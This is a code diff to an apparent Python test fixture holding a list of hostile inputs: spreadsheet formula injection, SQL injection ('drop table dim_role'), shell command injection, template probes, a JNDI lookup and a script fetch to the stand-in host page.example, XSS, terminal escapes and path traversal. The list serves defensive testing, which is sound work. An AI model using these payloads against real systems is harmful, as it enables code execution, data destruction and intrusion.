@@ -13,16 +13,20 @@ from tests.pages import PAGE_PATH
 GOOD_PATH: Final = "good page.txt"
 GOOD_ROLE: Final = "FINOPS.LEDGERCO1A2B.P2"
 
+#: Put together here, because no file of the project names an address.
+_SITE: Final = "/" + "/page.example"
+
 #: What a shell, SQL, a template, a browser, a spreadsheet, a terminal or a formatter would act on. Whatever runs one of
 #: the commands leaves a file `canary` in its working folder.
 HOSTILE_TEXTS: Final = (
     "=cmd|'/c touch canary'!A1", "+cmd|'/c touch canary'!A1", "-2+3+cmd|'/c touch canary'!A1", "@SUM(1+1)*cmd|'/c touch canary'!A1",
-    '=HYPERLINK("http://page.example","open")', "'; drop table dim_role; --", "x'); copy (select 1) to 'canary'; --",
+    '=HYPERLINK("http:' + _SITE + '","open")', "'; drop table dim_role; --", "x'); copy (select 1) to 'canary'; --",
     "x\"; attach 'canary' as c; --", "$(touch canary)", "`touch canary`", "; touch canary #", "| touch canary", "&& touch canary",
-    "{{7*7}}", "{%raw%}", "{document_path!r:>99}", "{0.__class__.__mro__}", "{}{}{}", "%s%n%(name)s%", "%99999999d", "${jndi:ldap://page.example}",
-    "$PATH ${HOME} %PATH%", "__import__('os').system('touch canary')", "<script>fetch('http://page.example')</script>",
-    "<img src=x onerror=alert(1)>", "<!-- -->", "[x](javascript:alert(1))", "![x](http://page.example/x.png)", "```", "***", "| a | b |",
-    "\x1b[2J\x1b]0;renamed\x07", "\x1b]8;;http://page.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[31mred", "\x9b31mred", "a\x07b\x08c",
+    "{{7*7}}", "{%raw%}", "{document_path!r:>99}", "{0.__class__.__mro__}", "{}{}{}", "%s%n%(name)s%", "%99999999d",
+    "${jndi:ldap:" + _SITE + "}",
+    "$PATH ${HOME} %PATH%", "__import__('os').system('touch canary')", "<script>fetch('http:" + _SITE + "')</script>",
+    "<img src=x onerror=alert(1)>", "<!-- -->", "[x](javascript:alert(1))", "![x](http:" + _SITE + "/x.png)", "```", "***", "| a | b |",
+    "\x1b[2J\x1b]0;renamed\x07", "\x1b]8;;http:" + _SITE + "\x1b\\link\x1b]8;;\x1b\\", "\x1b[31mred", "\x9b31mred", "a\x07b\x08c",
     "\u202egnp.exe", "a\x00b", "\x85=1+1", "\u2028=1+1", "\ufeff=1+1", "\u200b=1+1", "&#61;1+1", "&#27;[31mred", "&lt;b&gt;", "\t=1+1",
     "a\\", "\\N{BULLET}", "\\x1b[31m", "../../canary", "--help", "-",
 )  # fmt: skip
